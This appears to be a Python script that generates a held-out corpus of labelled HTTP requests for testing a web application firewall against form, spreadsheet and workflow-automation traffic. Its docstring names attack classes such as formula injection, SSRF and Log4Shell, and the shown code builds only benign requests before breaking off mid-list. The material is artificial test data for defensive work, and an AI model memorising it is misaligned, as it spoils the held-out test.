#!/usr/bin/env python3
"""Held-out request corpus: low-code platforms, form builders, spreadsheets and
workflow automation SaaS.

What it is
    A deterministic generator of labelled HTTP requests (JSON lines, the shape
    described in /work/shared/corpora/README.md) for the `lowcode` set. The
    attack mode yields real attacks and probes (`expect: detect`); the benign
    mode yields the legitimate traffic of the same applications
    (`expect: pass`), about 15 % of it `dev-content`: requests whose user
    content is itself code (spreadsheet formulas, filter formulas, conditional
    logic, validation regexes, SQL written for the user's own database,
    JavaScript/Python code steps, Handlebars/Liquid/Jinja templates, cron).

Applications
    forms.example.com        form builder: definitions, public forms, submissions,
                             file attachments
    sheets.example.net       online spreadsheet: cell values, formulas, CSV/XML
                             import and export
    tables.example.org       Airtable/Notion-style no-code tables: records,
                             views, filter formulas, sorts
    flow.example.com         Zapier/n8n-style workflow automation: workflows,
                             code steps, expressions, inbound webhooks, connectors
    tools.example.net        Retool-style internal-tool builder: apps, SQL queries
    mail.example.org         email/document template designer
    reports.example.com      report scheduler (cron) and exports
    Attacks are the OWASP classes through these carriers, aimed where
    user-editable code is not expected: SQL injection in public-form fields,
    record ids, view and sort parameters; CSV/formula injection (DDE,
    HYPERLINK, IMPORTXML) in public submissions; stored XSS in titles, labels,
    rich text and file names; SSTI through public forms; SSRF through webhook
    and connector URLs and fetch formulas; path traversal in attachment and
    template names; command injection in public fields and export filenames;
    NoSQL operators in filters and logins; prototype pollution; XXE in
    spreadsheet XML imports; Log4Shell in headers; smuggling; scanners.

Modes
    attacks   ~360 requests, `expect: detect`, categories sqli, xss, lfi, rfi,
              rce, php, java, ssrf, xxe, ssti, nosqli, ldapi, crlf, protocol,
              scanner, generic
    benign    ~440 requests, `expect: pass`, categories benign and dev-content

Written blind
    Written without reading Palisade's rules, its tests and test data, its
    proxy or the other corpus generators, and without running the WAF. The
    payloads come from general knowledge of real traffic of such products and
    of published attack techniques, aimed at attack classes, not at any rule.

Run
    python3 scripts/corpus-lowcode.py attacks > rulesets/tests/data/lowcode-attacks.jsonl
    python3 scripts/corpus-lowcode.py benign  > rulesets/tests/data/lowcode-benign.jsonl
"""

import json
import random
import sys
import unicodedata
from urllib.parse import quote, quote_plus, urlencode

SET = "lowcode"
SEED = 0x10C0DE

FORMS = "forms.example.com"
SHEETS = "sheets.example.net"
TABLES = "tables.example.org"
FLOW = "flow.example.com"
TOOLS = "tools.example.net"
MAIL = "mail.example.org"
REPORTS = "reports.example.com"

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
]
API_CLIENTS = [
    "python-requests/2.31.0",
    "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "curl/8.5.0",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
]
WEBHOOK_SENDERS = [
    "GitHub-Hookshot/5a1f2c3",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "Shopify-Captain-Hook",
    "Typeform Webhooks",
    "Slackbot 1.0 (+https://api.slack.com/robots)",
]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en;q=0.7",
         "en-GB,en;q=0.9", "es-ES,es;q=0.9", "nl-NL,nl;q=0.9,en;q=0.8"]


class Gen:
    """Collects requests; ids are <set>/<mode>/<slug>-NNN."""

    def __init__(self, mode):
        self.mode = mode
        self.rng = random.Random(f"{SEED}-{mode}")
        self.rows = []
        self.counters = {}

    # ---- random helpers -------------------------------------------------
    def hexs(self, n):
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def alnum(self, n):
        abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        return "".join(self.rng.choice(abc) for _ in range(n))

    def pick(self, seq):
        return self.rng.choice(seq)

    def rec_id(self):
        return "rec" + self.alnum(14)

    def tbl_id(self):
        return "tbl" + self.alnum(14)

    def base_id(self):
        return "app" + self.alnum(14)

    def sheet_id(self):
        return self.alnum(28)

    def form_slug(self):
        return self.pick(["contact-us", "job-application", "event-rsvp", "customer-feedback",
                          "volunteer-signup", "quote-request", "warranty-claim",
                          "newsletter", "support-ticket", "membership-renewal",
                          "workshop-registration", "return-request"])

    def bearer(self):
        return "Bearer " + self.pick(["pat", "key", "lc"]) + self.alnum(14) + "." + self.hexs(40)

    def session_cookie(self):
        c = [f"lc_session={self.hexs(32)}"]
        if self.rng.random() < 0.6:
            c.append(f"csrftoken={self.alnum(32)}")
        if self.rng.random() < 0.4:
            c.append(f"_ga=GA1.2.{self.rng.randint(100000000, 999999999)}.{self.rng.randint(1690000000, 1716000000)}")
        if self.rng.random() < 0.3:
            c.append("theme=" + self.pick(["light", "dark", "system"]))
        return "; ".join(c)

    # ---- header builders ------------------------------------------------
    def browser(self, host, accept=ACCEPT_HTML, ctype=None, cookie=True, referer=None,
                extra=None, ua=None):
        h = [["Host", host],
             ["User-Agent", ua or self.pick(BROWSERS)],
             ["Accept", accept],
             ["Accept-Language", self.pick(LANGS)],
             ["Accept-Encoding", "gzip, deflate, br"]]
        if ctype:
            h.append(["Content-Type", ctype])
            h.append(["Origin", f"https://{host}"])
        if referer:
            h.append(["Referer", referer])
        if cookie:
            h.append(["Cookie", cookie if isinstance(cookie, str) else self.session_cookie()])
        if extra:
            h.extend(extra)
        return h

    def xhr(self, host, ctype=None, cookie=True, referer=None, extra=None, ua=None):
        h = self.browser(host, accept=ACCEPT_JSON, ctype=ctype, cookie=cookie,
                         referer=referer or f"https://{host}/", extra=None, ua=ua)
        h.append(["X-Requested-With", "XMLHttpRequest"])
        if self.rng.random() < 0.5:
            h.append(["X-CSRF-Token", self.alnum(32)])
        if extra:
            h.extend(extra)
        return h

    def api(self, host, ctype=None, ua=None, extra=None, auth=True):
        h = [["Host", host],
             ["User-Agent", ua or self.pick(API_CLIENTS)],
             ["Accept", "application/json"]]
        if auth:
            h.append(["Authorization", self.bearer()])
        if ctype:
            h.append(["Content-Type", ctype])
        if extra:
            h.extend(extra)
        return h

    # ---- bodies ---------------------------------------------------------
    @staticmethod
    def form(pairs):
        return urlencode(pairs, quote_via=quote_plus)

    @staticmethod
    def js(obj):
        return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))

    def multipart(self, parts):
        """parts: list of (name, value) or (name, filename, ctype, content)."""
        boundary = "----WebKitFormBoundary" + self.alnum(16)
        out = []
        for p in parts:
            if len(p) == 2:
                out.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{p[0]}\"\r\n\r\n{p[1]}\r\n")
            else:
                name, fname, ct, content = p
                out.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"; "
                           f"filename=\"{fname}\"\r\nContent-Type: {ct}\r\n\r\n{content}\r\n")
        out.append(f"--{boundary}--\r\n")
        return "multipart/form-data; boundary=" + boundary, "".join(out)

    # ---- emit -----------------------------------------------------------
    def add(self, slug, category, method, uri, headers, body=None):
        n = self.counters.get(slug, 0) + 1
        self.counters[slug] = n
        kind = "attacks" if self.mode == "attacks" else "benign"
        row = {
            "id": f"{SET}/{kind}/{slug}-{n:03d}",
            "set": SET,
            "category": category,
            "expect": "detect" if self.mode == "attacks" else "pass",
            "method": method,
            "uri": uri,
            "version": "HTTP/1.1",
            "headers": headers,
        }
        if body is not None:
            row["body"] = body
        self.rows.append(row)


def qv(s):
    """encodeURIComponent-style (spaces as %20)."""
    return quote(s, safe="-_.!~*()")


def qsv(pairs):
    """A query string as fetch()/URLSearchParams-less JS clients build it."""
    return "&".join(f"{qv(k)}={qv(v)}" for k, v in pairs)


def qform(pairs):
    """A query string as an HTML form GET builds it (spaces as +)."""
    return urlencode(pairs, quote_via=quote_plus)


# ===========================================================================
# Benign traffic: ordinary use of the applications
# ===========================================================================

FIRST = ["Anna", "Liam", "Sofia", "Noah", "Mia", "Lukas", "Chloé", "José", "Zoë", "Mateo",
         "Aisha", "Kenji", "Priya", "Oliver", "Emma", "Jürgen", "Søren", "Fatima", "Wei",
         "Olivia", "Hannah", "Mohammed", "Isabella", "Ethan", "Niamh", "Björn", "Ana María"]
LAST = ["Müller", "O'Connor", "Smith", "García", "Nguyen", "Schmidt", "Rossi", "Dubois",
        "Kowalski", "Tanaka", "Okafor", "van der Berg", "Johansson", "Patel", "Smith-Jones",
        "D'Angelo", "Fernández", "Li", "Novak", "Brown", "MacDonald", "Ó Súilleabháin"]
STREETS = ["12 Baker Street", "Hauptstraße 5", "221B Elm Ave, Apt 4", "Rue de la Paix 18",
           "1600 Main St., Suite 200", "Calle Mayor 7, 2º izq.", "Via Roma 33",
           "PO Box 1142", "45 Queen's Road", "Kirkegade 9, 3. tv", "77 O'Farrell St #3"]
CITIES = [("Berlin", "10115", "DE"), ("Dublin", "D02 X285", "IE"), ("Paris", "75002", "FR"),
          ("Austin", "78701", "US"), ("Madrid", "28013", "ES"), ("København", "1150", "DK"),
          ("Toronto", "M5V 2T6", "CA"), ("München", "80331", "DE"), ("Leeds", "LS1 4DY", "GB"),
          ("São Paulo", "01310-100", "BR")]
PHONES = ["+49 30 1234567", "(555) 010-4477", "+1-202-555-0143", "+44 20 7946 0958",
          "+33 1 23 45 67 89", "555.867.5309", "+353 (0)1 555 0199", "030/555-1234"]
COMMENTS = [
    "Hi, I'd like a quote for 25 seats. Can you call me back after 5pm? Thanks!",
    "Please select the best plan for a team of 10 - we're currently on the free tier.",
    "The order #4821 arrived damaged (box crushed). I'd like a replacement, not a refund.",
    "Great workshop! The part on conditional logic & branching was really useful :)",
    "Vegetarian meal please. My colleague (Tom) will join too, if there's space.",
    "Where can I update my billing address? The old one is 12 Baker St.",
    "I tried to log in from a new laptop and got \"session expired\" - any idea why?",
    "Können Sie mir bitte eine Rechnung mit USt-ID schicken? Danke!",
    "Je voudrais annuler ma réservation du 14/06, merci.",
    "Budget is around $1,200-$1,500/month; we need SSO and an audit log.",
    "Is it possible to drop the old form and create a new one from the same template?",
    "We use this to collect 50% deposits, and 100% at delivery. Works fine.",
    "Please delete my account and all data from your records (GDPR Art. 17).",
    "Hours: Mon-Fri 9:00-17:30, Sat by appointment. Parking at the rear.",
    "Allergies: peanuts, shellfish. Wheelchair access needed <- important",
    "5 stars. Would recommend to anyone using spreadsheets for inventory.",
    "Hello! Question: does the \"Pro\" plan include more than 1 GB for file uploads?",
    "My name has an apostrophe (O'Neil) and your old form rejected it; this one works.",
]
PRODUCTS = [("Standard plan", "29.00"), ("Pro plan", "79.00"), ("Workshop ticket", "149.50"),
            ("T-shirt (L)", "19.99"), ("Extra seat", "12.00"), ("Annual licence", "1,250.00"),
            ("Consulting hour", "120"), ("Gift card", "50")]
EMAIL_DOMAINS = ["example.com", "example.net", "example.org", "mail.example.com"]


def email_for(g, first, last):
    local = (first.split()[0] + "." + last.replace("'", "").replace(" ", "")).lower()
    local = unicodedata.normalize("NFKD", local).encode("ascii", "ignore").decode() or "user"
    return f"{local}{g.rng.choice(['', '', str(g.rng.randint(1, 99))])}@{g.pick(EMAIL_DOMAINS)}"


def person(g):
    f, l = g.pick(FIRST), g.pick(LAST)
    city, zipc, cc = g.pick(CITIES)
    return {"first": f, "last": l, "email": email_for(g, f, l), "phone": g.pick(PHONES),
            "street": g.pick(STREETS), "city": city, "zip": zipc, "country": cc}


def benign_public_forms(g):
    # rendering public forms
    for _ in range(22):
        slug = g.form_slug()
        q = []
        r = g.rng.random()
        if r < 0.3:
            q = [("utm_source", g.pick(["newsletter", "linkedin", "google"])),
                 ("utm_medium", g.pick(["email", "cpc", "social"])),
                 ("utm_campaign", g.pick(["spring-2024", "webinar_follow_up", "Q3 launch"]))]
        elif r < 0.5:
            p = person(g)
            q = [("prefill_email", p["email"]), ("prefill_name", p["first"] + " " + p["last"])]
        elif r < 0.6:
            q = [("embed", "true"), ("hide_header", "1")]
        uri = f"/f/{slug}" + ("?" + qform(q) if q else "")
        g.add("public-form-view", "benign", "GET", uri,
              g.browser(FORMS, cookie=g.rng.random() < 0.4,
                        referer=g.pick([None, "https://www.example.org/contact", "https://www.example.com/events"])))
    # url-encoded submissions
    for _ in range(50):
        slug = g.form_slug()
        p = person(g)
        pairs = [("form_id", "frm_" + g.alnum(10)),
                 ("field_1", p["first"]), ("field_2", p["last"]), ("field_3", p["email"])]
        if g.rng.random() < 0.7:
            pairs.append(("field_4", p["phone"]))
        if g.rng.random() < 0.6:
            pairs += [("address[street]", p["street"]), ("address[city]", p["city"]),
                      ("address[zip]", p["zip"]), ("address[country]", p["country"])]
        if g.rng.random() < 0.5:
            prod, price = g.pick(PRODUCTS)
            pairs += [("product", prod), ("quantity", str(g.rng.randint(1, 12))), ("price", price)]
        if g.rng.random() < 0.7:
            pairs.append(("message", g.pick(COMMENTS)))
        if g.rng.random() < 0.4:
            pairs.append(("consent", "on"))
        if g.rng.random() < 0.3:
            pairs.append(("age", str(g.rng.randint(18, 80))))
        pairs.append(("_token", g.alnum(40)))
        g.add("public-form-submit", "benign", "POST", f"/f/{slug}/submit",
              g.browser(FORMS, ctype="application/x-www-form-urlencoded",
                        referer=f"https://{FORMS}/f/{slug}", cookie=g.rng.random() < 0.5),
              g.form(pairs))
    # JSON submissions from embedded widgets
    for _ in range(30):
        slug = g.form_slug()
        p = person(g)
        answers = [{"field": "fld_name", "value": f"{p['first']} {p['last']}"},
                   {"field": "fld_email", "value": p["email"]}]
        if g.rng.random() < 0.6:
            answers.append({"field": "fld_rating", "value": g.rng.randint(1, 5)})
        if g.rng.random() < 0.6:
            answers.append({"field": "fld_comments", "value": g.pick(COMMENTS)})
        if g.rng.random() < 0.4:
            answers.append({"field": "fld_topics", "value": g.rng.sample(
                ["Billing", "Integrations", "Mobile app", "API", "Templates", "Other"], 2)})
        if g.rng.random() < 0.4:
            answers.append({"field": "fld_date", "value": f"2024-0{g.rng.randint(1, 9)}-{g.rng.randint(10, 28)}"})
        body = {"formId": "frm_" + g.alnum(10), "answers": answers,
                "meta": {"tz": g.pick(["Europe/Berlin", "America/New_York", "UTC"]),
                         "startedAt": f"2024-05-{g.rng.randint(10, 28)}T0{g.rng.randint(0, 9)}:12:44Z"}}
        g.add("public-form-json", "benign", "POST", f"/api/public/forms/{slug}/responses",
              g.xhr(FORMS, ctype="application/json", cookie=False,
                    referer=f"https://{FORMS}/f/{slug}?embed=true"), g.js(body))
    # file attachments
    files = [("resume.pdf", "application/pdf", "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"),
             ("cover-letter.txt", "text/plain", "Dear hiring team,\n\nI am applying for the Ops Analyst role.\n\nKind regards,\nAnna"),
             ("receipt_2024-05-03.pdf", "application/pdf", "%PDF-1.7\n%\n2 0 obj << /Length 44 >> stream\nBT /F1 12 Tf (Receipt 4821) Tj ET\nendstream\n%%EOF"),
             ("attendees.csv", "text/csv", "name,email,diet\nAnna Müller,anna@example.com,vegetarian\nLiam Smith,liam@example.net,none\n"),
             ("Damage photo notes.txt", "text/plain", "Box crushed on the left corner. Photos sent by email."),
             ("Müller Lebenslauf.pdf", "application/pdf", "%PDF-1.5\n%\n1 0 obj << >> endobj\n%%EOF")]
    for _ in range(14):
        slug = g.pick(["job-application", "warranty-claim", "event-rsvp", "support-ticket"])
        p = person(g)
        fname, ct, content = g.pick(files)
        ctype, body = g.multipart([("name", f"{p['first']} {p['last']}"), ("email", p["email"]),
                                   ("notes", g.pick(COMMENTS)), ("attachment", fname, ct, content)])
        g.add("public-form-upload", "benign", "POST", f"/f/{slug}/submit", 
              g.browser(FORMS, ctype=ctype, referer=f"https://{FORMS}/f/{slug}"), body)
    # thank-you redirects and attachment downloads
    for _ in range(8):
        slug = g.form_slug()
        g.add("public-form-thanks", "benign", "GET",
              f"/f/{slug}/thanks?" + qform([("submission", "sub_" + g.alnum(12)),
                                            ("redirect", g.pick(["https://www.example.org/", "/f/" + slug]))]),
              g.browser(FORMS, referer=f"https://{FORMS}/f/{slug}"))
    for _ in range(12):
        fname = g.pick(["resume.pdf", "Invoice 2024-05.pdf", "photo_01.jpg", "Müller Lebenslauf.pdf",
                        "export (3).csv", "floor-plan_v2.png"])
        uri = g.pick([
            f"/api/v1/submissions/sub_{g.alnum(12)}/attachments/att_{g.alnum(10)}/download",
            f"/attachments/att_{g.alnum(10)}/{qv(fname)}",
            f"/api/v1/files/download?" + qsv([("id", "att_" + g.alnum(10)), ("name", fname)]),
        ])
        g.add("attachment-download", "benign", "GET", uri,
              g.browser(FORMS, accept="*/*", referer=f"https://{FORMS}/app/forms/frm_{g.alnum(10)}/responses"))


def benign_builders(g):
    # form builder dashboard / API (plain)
    for _ in range(14):
        fid = "frm_" + g.alnum(10)
        uri = g.pick([
            f"/api/v1/forms?{qsv([('page', str(g.rng.randint(1, 5))), ('per_page', '25'), ('sort', g.pick(['-updated_at', 'title', 'created_at']))])}",
            f"/api/v1/forms/{fid}",
            f"/api/v1/forms/{fid}/responses?{qsv([('since', '2024-05-01T00:00:00Z'), ('limit', '100')])}",
            f"/api/v1/forms/{fid}/insights?period=30d",
            f"/app/forms/{fid}/edit",
            f"/api/v1/forms/{fid}/responses/export?format=" + g.pick(["csv", "xlsx", "json"]),
        ])
        g.add("builder-api", "benign", "GET", uri,
              g.xhr(FORMS, referer=f"https://{FORMS}/app/forms"))
    for _ in range(8):
        fid = "frm_" + g.alnum(10)
        body = {"title": g.pick(["Customer feedback (Q2)", "Volunteer sign-up – Summer fête",
                                 "Job application: Support Engineer", "RSVP: Annual Dinner 2024",
                                 "Anfrage Angebot", "Formulaire d'inscription"]),
                "description": g.pick(["Takes about 2 minutes.", "All fields marked * are required.",
                                       "We'll reply within 24h.", ""]),
                "settings": {"closeAfter": g.rng.choice([None, 200, 500]), "notifyEmail": "team@example.com",
                             "theme": g.pick(["light", "midnight", "brand"])}}
        g.add("builder-save", "benign", "PATCH", f"/api/v1/forms/{fid}",
              g.xhr(FORMS, ctype="application/json", referer=f"https://{FORMS}/app/forms/{fid}/edit"), g.js(body))

    # spreadsheet reads and plain value updates
    for _ in range(14):
        sid = g.sheet_id()
        rng_ = g.pick(["Sheet1!A1:D20", "Budget 2024!A:F", "Inventory!B2:B500", "Sales!A1:Z1000", "Tabelle1!A1:C10"])
        uri = g.pick([
            f"/v4/spreadsheets/{sid}/values/{qv(rng_)}?valueRenderOption=" + g.pick(["FORMATTED_VALUE", "UNFORMATTED_VALUE", "FORMULA"]),
            f"/v4/spreadsheets/{sid}?includeGridData=false",
            f"/d/{sid}/edit#gid={g.rng.randint(0, 2000000000)}".split("#")[0],
            f"/d/{sid}/export?" + qsv([("format", g.pick(["csv", "xlsx", "pdf", "ods"])), ("gid", str(g.rng.randint(0, 99999)))]),
        ])
        g.add("sheet-read", "benign", "GET", uri, g.api(SHEETS) if g.rng.random() < 0.5 else g.xhr(SHEETS))
    for _ in range(22):
        sid = g.sheet_id()
        p = person(g)
        rows = g.pick([
            [[p["first"] + " " + p["last"], p["email"], p["phone"]]],
            [["Widget A", 12, "4.50"], ["Widget B", 3, "11.00"]],
            [["2024-05-03", "Office supplies", "-42.17", "Paid"]],
            [["Q2", "1,250,000", "+8.4%"]],
            [["SKU-1042", "Blue mug (350 ml)", 48]],
            [[p["city"], p["zip"], p["country"]]],
            [["Note", "Call back Tuesday - prefers email"]],
        ])
        body = {"range": g.pick(["Sheet1!A2", "Leads!A" + str(g.rng.randint(2, 900)), "Expenses!B14:E14"]),
                "majorDimension": "ROWS", "values": rows}
        g.add("sheet-update", "benign", "PUT",
              f"/v4/spreadsheets/{sid}/values/{qv(body['range'])}?valueInputOption=" + g.pick(["USER_ENTERED", "RAW"]),
              g.api(SHEETS, ctype="application/json"), g.js(body))
    for _ in range(7):
        csv_ = g.pick([
            "date,description,amount\n2024-05-01,Coffee beans,-18.90\n2024-05-02,Client payment,+1200.00\n2024-05-03,Refund #331,-25.00\n",
            "name,phone,city\nAnna Müller,+49 30 1234567,Berlin\n\"O'Connor, Liam\",+353 1 555 0199,Dublin\n",
            "sku,qty,price\nA-100,12,4.50\nA-101,0,11.00\nB-200,7,\"1,099.00\"\n",
            "team,score\n\"Red, Blue\",42\nGreen,-3\n",
        ])
        ctype, body = g.multipart([("sheet", "Imported"), ("delimiter", ","),
                                   ("file", g.pick(["bank-export.csv", "contacts.csv", "inventory (1).csv"]), "text/csv", csv_)])
        g.add("sheet-import-csv", "benign", "POST", f"/api/import/{g.sheet_id()}?mode=" + g.pick(["append", "replace", "new_sheet"]),
              g.browser(SHEETS, accept=ACCEPT_JSON, ctype=ctype), body)

    # no-code tables: list / sort / create
    for _ in range(28):
        base, tbl = g.base_id(), g.tbl_id()
        params = [("pageSize", str(g.pick([20, 50, 100])))]
        if g.rng.random() < 0.6:
            params.append(("view", g.pick(["Grid view", "Open tickets", "Kanban – by owner", "viw" + g.alnum(14)])))
        if g.rng.random() < 0.5:
            params += [("sort[0][field]", g.pick(["Name", "Due date", "Status", "Created"])),
                       ("sort[0][direction]", g.pick(["asc", "desc"]))]
        if g.rng.random() < 0.4:
            params.append(("offset", "itr" + g.alnum(14) + "/" + g.rec_id()))
        if g.rng.random() < 0.4:
            for f in g.rng.sample(["Name", "Email", "Status", "Owner", "Due date", "Notes"], 3):
                params.append(("fields[]", f))
        if g.rng.random() < 0.3:
            params.append(("cellFormat", "json"))
        g.add("table-list", "benign", "GET", f"/v0/{base}/{tbl}?" + qsv(params),
              g.api(TABLES) if g.rng.random() < 0.6 else g.xhr(TABLES))
    for _ in range(16):
        base, tbl = g.base_id(), g.tbl_id()
        p = person(g)
        fields = g.pick([
            {"Name": f"{p['first']} {p['last']}", "Email": p["email"], "Status": "New"},
            {"Task": "Renew SSL certificate", "Due date": "2024-06-30", "Priority": "High", "Done": False},
            {"Company": "Example GmbH & Co. KG", "Deal size": 12500, "Stage": "Proposal"},
            {"Item": "Standing desk", "Qty": 2, "Unit price": 349.0, "Notes": "Ask about bulk discount (10%+)"},
            {"Title": "Q3 roadmap review", "Attendees": [g.rec_id(), g.rec_id()], "Room": "Blue / 2nd floor"},
        ])
        method = g.pick(["POST", "PATCH"])
        uri = f"/v0/{base}/{tbl}" if method == "POST" else f"/v0/{base}/{tbl}/{g.rec_id()}"
        body = {"records": [{"fields": fields}]} if method == "POST" else {"fields": fields, "typecast": True}
        g.add("table-write", "benign", method, uri, g.api(TABLES, ctype="application/json"), g.js(body))

    # workflow automation: ui/api + inbound webhooks
    for _ in range(14):
        wid = str(g.rng.randint(10, 9999))
        uri = g.pick([
            "/rest/workflows?" + qsv([("filter", '{"active":true}'), ("limit", "50")]),
            f"/rest/workflows/{wid}",
            f"/rest/executions?" + qsv([("workflowId", wid), ("status", g.pick(["error", "success"])), ("limit", "20")]),
            f"/rest/executions/{g.rng.randint(1000, 99999)}",
            "/rest/credentials?includeScopes=true",
            "/rest/node-types",
            f"/workflow/{wid}",
        ])
        g.add("flow-ui", "benign", "GET", uri, g.xhr(FLOW, referer=f"https://{FLOW}/home/workflows"))
    for _ in range(5):
        wid = str(g.rng.randint(10, 9999))
        g.add("flow-activate", "benign", "PATCH", f"/rest/workflows/{wid}",
              g.xhr(FLOW, ctype="application/json"), g.js({"active": g.pick([True, False]), "name": g.pick(["Lead → CRM", "Daily digest", "Invoice paid: notify Slack"])}))
    hooks = [
        ("GitHub-Hookshot/5a1f2c3", [["X-GitHub-Event", "push"], ["X-GitHub-Delivery", "{uuid}"]],
         {"ref": "refs/heads/main", "repository": {"full_name": "example/site"}, "pusher": {"name": "anna"},
          "head_commit": {"message": "Fix typo in footer & update deps", "id": "{hex40}"}}),
        ("Stripe/1.0 (+https://stripe.com/docs/webhooks)", [["Stripe-Signature", "t=1715000000,v1={hex64}"]],
         {"id": "evt_{a24}", "type": "invoice.paid", "data": {"object": {"id": "in_{a24}", "amount_paid": 7900, "currency": "eur", "customer_email": "billing@example.com"}}}),
        ("Shopify-Captain-Hook", [["X-Shopify-Topic", "orders/create"], ["X-Shopify-Hmac-Sha256", "{b64}"]],
         {"id": 5512345678, "email": "buyer@example.net", "total_price": "59.90", "line_items": [{"title": "Mug – \"Hello\" edition", "quantity": 2}]}),
        ("Typeform Webhooks", [["Typeform-Signature", "sha256={b64}"]],
         {"event_type": "form_response", "form_response": {"form_id": "{a8}", "answers": [{"type": "text", "text": "Loved it, but the checkout page was slow."}, {"type": "number", "number": 9}]}}),
        ("Slackbot 1.0 (+https://api.slack.com/robots)", [],
         {"type": "event_callback", "event": {"type": "message", "text": "Can someone approve the PO for 3 laptops? <@U024BE7LH>", "channel": "C{a8}"}}),
    ]
    for _ in range(22):
        ua, extra, payload = g.pick(hooks)
        s = g.js(payload)
        s = (s.replace("{uuid}", f"{g.hexs(8)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(12)}")
              .replace("{hex40}", g.hexs(40)).replace("{hex64}", g.hexs(64))
              .replace("{a24}", g.alnum(24)).replace("{a8}", g.alnum(8).upper()).replace("{b64}", g.alnum(43) + "="))
        ex = [[k, v.replace("{uuid}", f"{g.hexs(8)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(12)}")
                 .replace("{hex64}", g.hexs(64)).replace("{b64}", g.alnum(43) + "=")] for k, v in extra]
        g.add("flow-webhook-in", "benign", "POST", f"/webhook/{g.hexs(8)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(12)}",
              g.api(FLOW, ctype="application/json", ua=ua, auth=False, extra=ex), s)
    for _ in range(7):
        url = g.pick(["https://hooks.example.com/services/T000/B000/" + g.alnum(24),
                      "https://api.example.net/v2/leads", "https://crm.example.org/webhooks/forms?token=" + g.alnum(20),
                      "https://example.com/api/inbound"])
        body = {"name": g.pick(["Send to CRM", "Notify sales", "Backup submissions"]), "url": url,
                "method": "POST", "events": ["submission.created"], "headers": {"X-Source": "forms"}}
        g.add("connector-config", "benign", "POST", f"/api/v1/forms/frm_{g.alnum(10)}/webhooks",
              g.xhr(FORMS, ctype="application/json"), g.js(body))

    # internal tool builder: apps and saved-query runs with plain parameters
    for _ in range(10):
        app = g.hexs(8) + "-" + g.hexs(4)
        uri = g.pick([f"/apps/{app}/Customer%20Lookup", f"/api/pages/uuids/{app}",
                      f"/api/resources?" + qsv([("type", "postgresql")]),
                      f"/apps/{app}/Refunds%20Dashboard?" + qsv([("customer_id", str(g.rng.randint(1000, 99999)))]),
                      f"/api/organization/users?" + qsv([("search", g.pick(FIRST))])])
        g.add("tools-ui", "benign", "GET", uri, g.xhr(TOOLS))
    for _ in range(8):
        p = person(g)
        body = {"queryName": g.pick(["getCustomer", "listOrders", "refundsThisWeek", "searchTickets"]),
                "environment": "production",
                "params": g.pick([{"customerId": g.rng.randint(1000, 99999)},
                                  {"email": p["email"]}, {"search": f"{p['last']}", "limit": 50},
                                  {"from": "2024-05-01", "to": "2024-05-31", "status": "refunded"}])}
        g.add("tools-run-saved", "benign", "POST", f"/api/pages/uuids/{g.hexs(8)}-{g.hexs(4)}/query",
              g.xhr(TOOLS, ctype="application/json"), g.js(body))

    # templates, reports, auth, misc
    for _ in range(10):
        tid = "tpl_" + g.alnum(10)
        uri = g.pick([f"/api/templates?" + qsv([("folder", g.pick(["Onboarding", "Invoices", "Newsletters"])), ("q", g.pick(["welcome", "receipt", "reset"]))]),
                      f"/api/templates/{tid}", f"/api/templates/{tid}/versions",
                      f"/designer/{tid}", f"/api/templates/{tid}/preview?" + qsv([("locale", g.pick(["en", "de", "fr"])), ("sample", "default")])])
        g.add("template-ui", "benign", "GET", uri, g.xhr(MAIL))
    for _ in range(4):
        body = {"to": person(g)["email"], "templateId": "tpl_" + g.alnum(10),
                "data": {"first_name": g.pick(FIRST), "order_total": g.pick(["59.90", "1,250.00"]), "items": [{"name": "Mug", "qty": 2}]}}
        g.add("template-send-test", "benign", "POST", "/api/messages/test",
              g.xhr(MAIL, ctype="application/json"), g.js(body))
    for _ in range(8):
        uri = g.pick([f"/api/schedules?" + qsv([("owner", "me")]), f"/api/reports/rpt_{g.alnum(8)}/runs?limit=10",
                      f"/api/reports/rpt_{g.alnum(8)}/download?" + qsv([("format", g.pick(["pdf", "csv", "xlsx"])), ("run", str(g.rng.randint(100, 999)))]),
                      f"/reports/rpt_{g.alnum(8)}"])
        g.add("report-ui", "benign", "GET", uri, g.xhr(REPORTS))
    for _ in range(16):
        host = g.pick([FORMS, SHEETS, TABLES, FLOW, TOOLS, MAIL])
        kind = g.rng.random()
        if kind < 0.4:
            uri = g.pick(["/static/js/main.8f3c2a1b.js", "/assets/index-4d2e9a.css", "/favicon.ico",
